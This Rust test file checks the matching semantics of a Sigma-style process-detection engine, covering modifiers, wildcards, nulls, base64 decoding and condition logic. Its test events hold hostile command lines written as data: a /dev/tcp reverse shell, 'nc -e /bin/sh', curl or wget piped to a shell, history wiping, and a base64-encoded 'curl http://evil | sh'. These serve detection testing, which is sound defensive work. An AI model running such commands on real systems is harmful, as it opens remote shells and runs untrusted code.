//! Matching semantics through the public API: each modifier, wildcards and escapes,
//! case-(in)sensitivity, nulls, keywords, condition precedence and quantifiers.

use vigil_detect::{sample_exec_event, RuleSet};
use vigil_proto::EventAction;

/// A one-rule set whose `detection` block is `detection` (indented by the caller).
fn rule(detection: &str) -> RuleSet {
    let text = format!(
        "title: test rule\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n{detection}"
    );
    let set = RuleSet::parse(&text, "<inline>")
        .unwrap_or_else(|e| panic!("rule should compile: {e}\n{text}"));
    assert_eq!(set.len(), 1, "one rule expected from:\n{text}");
    set
}

fn fires(set: &RuleSet, fields: &[(&str, &str)]) -> bool {
    let event = sample_exec_event(fields).unwrap_or_else(|e| panic!("bad test event: {e}"));
    !set.matches(&event).is_empty()
}

fn image(set: &RuleSet, value: &str) -> bool {
    fires(set, &[("Image", value)])
}

fn cmd(set: &RuleSet, value: &str) -> bool {
    fires(set, &[("CommandLine", value)])
}

#[test]
fn plain_values_match_whole_value_case_insensitively() {
    let set = rule("  sel:\n    Image: /usr/bin/BASH\n  condition: sel\n");
    assert!(image(&set, "/usr/bin/bash"), "case-insensitive equality");
    assert!(image(&set, "/USR/BIN/BASH"), "case-insensitive equality");
    assert!(!image(&set, "/usr/bin/bash2"), "equality is whole-value");
    assert!(!image(&set, "x/usr/bin/bash"), "equality is whole-value");
}

#[test]
fn contains_startswith_endswith() {
    let set = rule("  sel:\n    CommandLine|contains: /DEV/tcp/\n  condition: sel\n");
    assert!(cmd(&set, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
    assert!(!cmd(&set, "bash -i"));
    let set = rule("  sel:\n    Image|startswith: /tmp/\n  condition: sel\n");
    assert!(image(&set, "/TMP/x"));
    assert!(!image(&set, "/var/tmp/x"));
    let set = rule("  sel:\n    Image|endswith: /NC\n  condition: sel\n");
    assert!(image(&set, "/usr/bin/nc"));
    assert!(!image(&set, "/usr/bin/ncat"));
}

#[test]
fn lists_are_or_and_all_makes_them_and() {
    let set = rule(
        "  sel:\n    CommandLine|contains:\n      - ' -e '\n      - ' -c '\n  condition: sel\n",
    );
    assert!(cmd(&set, "nc -e /bin/sh 1.2.3.4 80"));
    assert!(cmd(&set, "nc -c sh 1.2.3.4 80"));
    assert!(!cmd(&set, "nc -l 80"));
    let set = rule("  sel:\n    CommandLine|contains|all:\n      - ' -e '\n      - /bin/sh\n  condition: sel\n");
    assert!(cmd(&set, "nc -e /bin/sh 1.2.3.4 80"));
    assert!(
        !cmd(&set, "nc -e /bin/bash 1.2.3.4 80"),
        "`all` needs every value"
    );
}

#[test]
fn fields_in_a_map_are_and_and_a_list_of_maps_is_or() {
    let set = rule(
        "  sel:\n    Image|endswith: /sh\n    ParentImage|endswith: /nginx\n  condition: sel\n",
    );
    assert!(fires(
        &set,
        &[("Image", "/bin/sh"), ("ParentImage", "/usr/sbin/nginx")]
    ));
    assert!(!fires(
        &set,
        &[("Image", "/bin/sh"), ("ParentImage", "/usr/bin/bash")]
    ));
    let set = rule(
        "  sel:\n    - Image|endswith: /sh\n    - ParentImage|endswith: /nginx\n  condition: sel\n",
    );
    assert!(fires(&set, &[("Image", "/bin/sh")]));
    assert!(fires(&set, &[("ParentImage", "/usr/sbin/nginx")]));
    assert!(!fires(&set, &[("Image", "/bin/ls")]));
}

#[test]
fn keywords_search_the_command_line() {
    let set = rule(
        "  keywords:\n    - 'HISTFILE=/dev/null'\n    - 'history -c'\n  condition: keywords\n",
    );
    assert!(cmd(&set, "export HISTFILE=/dev/null"));
    assert!(
        cmd(&set, "bash -c 'HISTORY -C'"),
        "keywords are case-insensitive substrings"
    );
    assert!(
        !fires(&set, &[("Image", "/usr/bin/history-c")]),
        "keywords read CommandLine only"
    );
    let set =
        rule("  keywords:\n    '|all':\n      - curl\n      - '| sh'\n  condition: keywords\n");
    assert!(cmd(&set, "curl -s http://x | sh"));
    assert!(!cmd(&set, "curl -s http://x"));
}

#[test]
fn null_means_absent_or_empty_and_quoted_null_is_text() {
    let set = rule("  sel:\n    ParentImage: null\n  condition: sel\n");
    assert!(fires(&set, &[("Image", "/bin/ls")]), "no parent at all");
    assert!(
        fires(&set, &[("ParentCommandLine", "x")]),
        "parent with empty image"
    );
    assert!(!fires(&set, &[("ParentImage", "/bin/bash")]));
    let set = rule("  sel:\n    CurrentDirectory:\n  condition: sel\n");
    assert!(
        fires(&set, &[("Image", "/bin/ls")]),
        "an empty YAML value is null"
    );
    let set = rule("  sel:\n    Image: 'null'\n  condition: sel\n");
    assert!(image(&set, "NULL"), "a quoted 'null' is the text null");
    assert!(!image(&set, ""), "a quoted 'null' is not absence");
}

#[test]
fn wildcards_and_escapes() {
    let set = rule("  sel:\n    Image: /tmp/*/s?\n  condition: sel\n");
    assert!(image(&set, "/tmp/a/b/sh"), "`*` spans path separators");
    assert!(
        image(&set, "/TMP/x/SH"),
        "wildcard patterns are case-insensitive"
    );
    assert!(!image(&set, "/tmp/a/bash"), "`?` is exactly one character");
    let set = rule("  sel:\n    CommandLine: 'echo \\*'\n  condition: sel\n");
    assert!(cmd(&set, "echo *"), "`\\*` is a literal star");
    assert!(!cmd(&set, "echo hello"), "`\\*` is not a wildcard");
    let set = rule("  sel:\n    CommandLine|contains: 'a\\b'\n  condition: sel\n");
    assert!(
        cmd(&set, "x a\\b y"),
        "a backslash before an ordinary character is itself"
    );
    let set = rule("  sel:\n    CommandLine|contains: '\\\\'\n  condition: sel\n");
    assert!(cmd(&set, "x \\ y"), "`\\\\` is one literal backslash");
    let set = rule("  sel:\n    CommandLine|contains: 'wget*|*sh'\n  condition: sel\n");
    assert!(
        cmd(&set, "wget -O- http://x | bash"),
        "wildcards inside contains"
    );
    assert!(!cmd(&set, "bash | wget"));
}

#[test]
fn regex_is_case_sensitive_unless_i() {
    let set = rule("  sel:\n    CommandLine|re: '\\s-O\\s'\n  condition: sel\n");
    assert!(cmd(&set, "wget -O /tmp/x http://y"));
    assert!(!cmd(&set, "wget -o log http://y"), "`re` is case-sensitive");
    let set = rule("  sel:\n    CommandLine|re|i: '^CURL .*\\| *(ba)?sh$'\n  condition: sel\n");
    assert!(cmd(&set, "curl http://x | sh"));
    assert!(cmd(&set, "Curl http://x |bash"));
}

#[test]
fn cased_windash_exists_and_numbers() {
    let set = rule("  sel:\n    CommandLine|cased|contains: ' -R '\n  condition: sel\n");
    assert!(cmd(&set, "ls -R /"));
    assert!(!cmd(&set, "ls -r /"), "`cased` is case-sensitive");
    let set = rule("  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n");
    assert!(cmd(&set, "find . -exec sh ;"));
    assert!(cmd(&set, "find . /exec sh ;"));
    assert!(cmd(&set, "find . \u{2013}exec sh ;"), "en dash");
    let set = rule("  sel:\n    CurrentDirectory|exists: true\n  condition: sel\n");
    assert!(fires(&set, &[("CurrentDirectory", "/root")]));
    assert!(!fires(&set, &[("Image", "/bin/ls")]));
    let set = rule("  sel:\n    ProcessId|lt: 100\n    ParentProcessId|gte: 1\n  condition: sel\n");
    assert!(fires(
        &set,
        &[("ProcessId", "42"), ("ParentProcessId", "1")]
    ));
    assert!(!fires(
        &set,
        &[("ProcessId", "420"), ("ParentProcessId", "1")]
    ));
}

#[test]
fn base64offset_finds_text_inside_encoded_blobs() {
    // "curl http://evil" at three different offsets inside base64 text.
    let set = rule(
        "  sel:\n    CommandLine|base64offset|contains: 'curl http://evil'\n  condition: sel\n",
    );
    for blob in [
        "Y3VybCBodHRwOi8vZXZpbCB8IHNo",     // "curl http://evil | sh"
        "eCBjdXJsIGh0dHA6Ly9ldmlsIHwgc2g=", // "x curl http://evil | sh"
        "eHggY3VybCBodHRwOi8vZXZpbCB8IHNo", // "xx curl http://evil | sh"
    ] {
        assert!(
            cmd(&set, &format!("echo {blob} | base64 -d | sh")),
            "{blob}"
        );
    }
    assert!(!cmd(&set, "echo aGVsbG8gd29ybGQ= | base64 -d"));
    let set = rule("  sel:\n    CommandLine|base64|contains: '#!/bin/sh'\n  condition: sel\n");
    assert!(cmd(&set, "echo IyEvYmluL3NoCg== | base64 -d"));
}

#[test]
fn user_logon_and_directory_fields() {
    let set = rule("  sel:\n    User: root\n    LogonId: 1000\n    CurrentDirectory|startswith: /var/www\n  condition: sel\n");
    let event = [
        ("User", "root"),
        ("LogonId", "1000"),
        ("CurrentDirectory", "/var/www/html"),
    ];
    assert!(fires(&set, &event));
    assert!(!fires(
        &set,
        &[
            ("User", "root"),
            ("LogonId", "0"),
            ("CurrentDirectory", "/var/www")
        ]
    ));
    let set = rule("  sel:\n    User: '0'\n  condition: sel\n");
    assert!(
        fires(&set, &[("User", "0")]),
        "an unresolved user is its numeric id"
    );
}

#[test]
fn condition_precedence_and_quantifiers() {
    let sels = "  a:\n    CommandLine|contains: aaa\n  b:\n    CommandLine|contains: bbb\n  c:\n    CommandLine|contains: ccc\n";
    let set = rule(&format!("{sels}  condition: a or b and c\n"));
    assert!(cmd(&set, "aaa"), "`and` binds tighter than `or`");
    assert!(!cmd(&set, "bbb"));
    let set = rule(&format!("{sels}  condition: not a and b\n"));
    assert!(cmd(&set, "bbb"), "`not` binds tighter than `and`");
    assert!(!cmd(&set, "aaa bbb"));
    let set = rule(&format!("{sels}  condition: not (a or b)\n"));
    assert!(cmd(&set, "ccc"));
    assert!(!cmd(&set, "bbb"));
    let set = rule(&format!("{sels}  condition: 1 of them\n"));
    assert!(cmd(&set, "ccc"));
    assert!(!cmd(&set, "ddd"));
    let set = rule(&format!("{sels}  condition: all of them\n"));
    assert!(cmd(&set, "aaa bbb ccc"));
    assert!(!cmd(&set, "aaa bbb"));
    let sels = "  selection_x:\n    CommandLine|contains: x\n  selection_y:\n    CommandLine|contains: y\n  filter_main:\n    Image: /bin/ok\n";
    let set = rule(&format!(
        "{sels}  condition: all of selection_* and not 1 of filter_*\n"
    ));
    assert!(cmd(&set, "x y"));
    assert!(!cmd(&set, "x"));
    assert!(!fires(
        &set,
        &[("CommandLine", "x y"), ("Image", "/bin/ok")]
    ));
}

#[test]
fn only_exec_events_match_and_order_is_load_order() {
    let text = "title: first\nid: one\nlogsource: {category: process_creation}\ndetection: {s: {Image|endswith: /sh}, condition: s}\n---\ntitle: second\nid: two\nlogsource: {category: process_creation}\ndetection: {s: {CommandLine|contains: '-i'}, condition: s}\n";
    let set = RuleSet::parse(text, "<inline>").unwrap_or_else(|e| panic!("{e}"));
    let mut event =
        sample_exec_event(&[("Image", "/bin/sh"), ("CommandLine", "sh -i")]).expect("known fields");
    let ids: Vec<&str> = set
        .matches(&event)
        .iter()
        .map(|r| r.info().id.as_str())
        .collect();
    assert_eq!(ids, vec!["one", "two"]);
    event.event.action = EventAction::Fork;
    assert!(
        set.matches(&event).is_empty(),
        "fork events never match process_creation rules"
    );
}
